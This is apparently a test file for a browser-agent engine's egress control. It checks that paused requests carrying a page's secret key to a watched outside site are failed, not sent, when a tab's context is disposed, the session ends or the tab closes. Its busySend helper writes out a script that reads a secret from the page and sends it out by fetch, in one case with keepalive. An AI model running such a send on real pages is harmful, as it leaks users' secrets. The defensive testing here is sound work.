// What the engine holds paused fails closed as it lets go of a tab, on real Chromium through the fallback's host: a
// request an agent's script left, paused while the engine waits to judge it, is failed, not sent, when the tab's page
// context is disposed (the session ends, the engine stops driving the tab), though Chrome would send every request
// Fetch still holds once Fetch is disabled; and a keepalive send paused as the agent closes the tab is failed too.
import { afterEach, describe, expect, it } from 'vitest';
import { createEngineExecutor } from '../../shared/engine/executor.js';
import { evaluate } from '../../shared/engine/ops/eval.js';
import { PageContext } from '../../shared/engine/page-context.js';
import { loadUrl } from '../support/browser.js';
import { ctx } from '../support/engine-suite.js';
import { pausedAt } from '../support/paused-at.js';
import { reachedSite, untilMarker } from '../support/late-results.js';
import { useWatchedEngine } from '../support/watched-engine-tab.js';

const engine = useWatchedEngine();
const { suite, gate } = engine;
const KEY = `document.getElementById('secret').textContent`;
let opened: PageContext | undefined;

afterEach(() => {
  opened?.dispose();
  opened = undefined;
  engine.watched.requests.length = 0;
});

/** A background tab on egress-late.html with a page context of its own. */
async function openPage(): Promise<PageContext> {
  const tab = await suite.browser.host.create('about:blank', { focus: false });
  const page = new PageContext(await suite.browser.host.cdp(tab.id), gate);
  opened = page;
  await page.frames.init();
  await loadUrl(page, suite.server.url('egress-late.html'));
  return page;
}

/** An engine session of its own (`tag`) driving a new tab on egress-late.html?`query`, and that tab's CDP handle. */
async function executorTab(tag: string, query: string) {
  const executor = createEngineExecutor(suite.browser.host, { tag, policy: () => gate.current() });
  const url = suite.server.url(`egress-late.html?${query}`);
  await executor.run('tab_new', { url }, ctx);
  const tabId = (await suite.browser.host.list()).find((tab) => tab.url === url)!.id;
  return { executor, cdp: await suite.browser.host.cdp(tabId) };
}

/**
 * A script that sends the page's key to the watched site at `path` from a timer, then keeps the page's thread busy: the
 * tab tells the request's initiator only seconds later, and until then the engine waits to judge it, paused
 * (egress-trail.ts). The page sets `window[done]` once the fetch settled. `options`: more of the fetch's options.
 */
function busySend(path: string, done: string, options = ''): string {
  return `setTimeout(() => { fetch('${engine.watched.origin}${path}?key=' + encodeURIComponent(${KEY}),
    { mode: 'no-cors'${options} }).catch(() => undefined).finally(() => (window.${done} = true));
    const busy = Date.now() + 3000; while (Date.now() < busy); }, 300); 0`;
}

describe('as the engine lets go of a tab', () => {
  it("fails, not sends, a script's request paused while its initiator is not told yet", async () => {
    const page = await openPage();
    // Listened for first: on a loaded box the script's timer (300 ms) can fire before the eval's answer arrives.
    const paused = pausedAt(page.cdp, '/disposed');
    await evaluate(page, { expression: busySend('/disposed', 'disposedDone') }, ctx);
    await paused;
    const failed = page.dispose();
    opened = undefined;
    await untilMarker(page, 'disposedDone');
    expect(await reachedSite(page, engine.watched)).toEqual([]);
    // Named by the Fetch domain's word for a fetch(), as the extension's let-go names it.
    expect(await failed).toEqual([
      {
        method: 'GET',
        url: `${engine.watched.origin}/disposed?key=API%20key%20sk_live_Late_Page_Key_5521`,
        kind: 'XHR',
      },
    ]);
  });

  it('fails, not sends, what a tab held paused as the engine session ends, and answers what it failed', async () => {
    const { executor, cdp } = await executorTab('td', 'session');
    const paused = pausedAt(cdp, '/session-end');
    await executor.run('eval', { expression: busySend('/session-end', 'endDone') }, ctx);
    await paused;
    const failed = executor.dispose();
    // A context of the tab's own, as the next session's: it sends nothing to the tab until asked to.
    const probe = new PageContext(cdp, gate);
    opened = probe;
    await untilMarker(probe, 'endDone');
    expect(await reachedSite(probe, engine.watched)).toEqual([]);
    expect((await failed).map((send) => send.url.replace(engine.watched.origin, 'W'))).toEqual([
      'W/session-end?key=API%20key%20sk_live_Late_Page_Key_5521',
    ]);
  });

  it("fails, not sends, a script's keepalive send paused as the agent closes the tab", async () => {
    const { executor, cdp } = await executorTab('tc', 'close');
    // A keepalive request outlives its page: closing the tab does not cancel it.
    const paused = pausedAt(cdp, '/closed');
    await executor.run('eval', { expression: busySend('/closed', 'closedDone', ', keepalive: true') }, ctx);
    await paused;
    await executor.run('tab_close', {}, ctx);
    await executor.dispose();
    await engine.watched.settled();
    // Another tab's own send, after: what reached the site before it arrived.
    const other = await openPage();
    expect(await reachedSite(other, engine.watched)).toEqual([]);
  });
});
